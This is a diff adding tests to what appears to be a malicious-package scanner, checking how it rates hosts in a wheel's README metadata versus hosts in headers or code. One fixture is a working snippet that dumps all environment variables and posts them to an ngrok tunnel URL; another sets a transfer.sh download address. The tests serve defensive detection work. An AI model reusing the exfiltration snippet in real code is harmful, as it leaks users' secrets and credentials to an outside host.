@@ -305,3 +305,62 @@ def test_the_same_webhook_as_a_calls_url_keyword_stays_high(tmp_path):
     res = _wheel(tmp_path, {"gizmo/__init__.py": stealer})
     assert {"chain.exfil_endpoint", "chain.exfiltration"} & _ids(res)
     assert res.risk.level in HIGH
+
+
+# ------------------------------------------------ the long description in core metadata
+
+_HEADERS = (
+    "Metadata-Version: 2.1\nName: gizmo\nVersion: 1.0\nSummary: Tunnels for your app\n"
+    "Project-URL: homepage, https://gizmo.example.com\n"
+)
+README_BODY = """
+# gizmo
+
+Forward a local port and share it:
+
+```
+$ curl -v https://<YOUR_LISTENER_URL>
+* Connected to a6278d6c07ce.ngrok.app (<YOUR_IP>) port 443 (#0)
+> Host: a6278d6c07ce.ngrok.app
+```
+
+Send an alert on every new record:
+
+    client.create_webhook(url="https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXX")
+"""
+
+
+def test_hosts_in_the_long_description_of_the_metadata_are_documentation(tmp_path):
+    """A tunnel client's README (the wheel's METADATA body) shows sample output through a
+    tunnel host and an example webhook: the index page's text, which nothing posts to."""
+    meta = (_HEADERS + README_BODY).encode()
+    res = _wheel(tmp_path, {"gizmo-1.0.dist-info/METADATA": meta})
+    ends = [h for h in res.findings if h.capability == "net.exfil_endpoint"]
+    assert ends and all(h.severity not in HIGH for h in ends)  # still shown
+    assert "chain.exfil_endpoint" not in _ids(res)
+    assert res.risk.level not in HIGH
+
+
+def test_a_file_drop_address_in_a_metadata_header_stays_high(tmp_path):
+    """The twin: a download address in the headers, which installers and people follow."""
+    meta = (
+        _HEADERS.replace(
+            "Project-URL", "Download-URL: https://transfer.sh/a1B2c3/gizmo.tgz\nProject-URL"
+        )
+        + README_BODY
+    ).encode()
+    res = _wheel(tmp_path, {"gizmo-1.0.dist-info/METADATA": meta})
+    assert "chain.exfil_endpoint" in _ids(res)
+    assert res.risk.level in HIGH
+
+
+def test_the_readmes_tunnel_host_used_by_the_packages_code_stays_high(tmp_path):
+    """The twin: the README's tunnel host, posted to by the package's own code."""
+    code = (
+        b"import os, urllib.request\n"
+        b"DATA = repr(dict(os.environ)).encode()\n"
+        b"urllib.request.urlopen('https://a6278d6c07ce.ngrok.app/c', data=DATA)\n"
+    )
+    meta = (_HEADERS + README_BODY).encode()
+    res = _wheel(tmp_path, {"gizmo-1.0.dist-info/METADATA": meta, "gizmo/__init__.py": code})
+    assert res.risk.level in HIGH
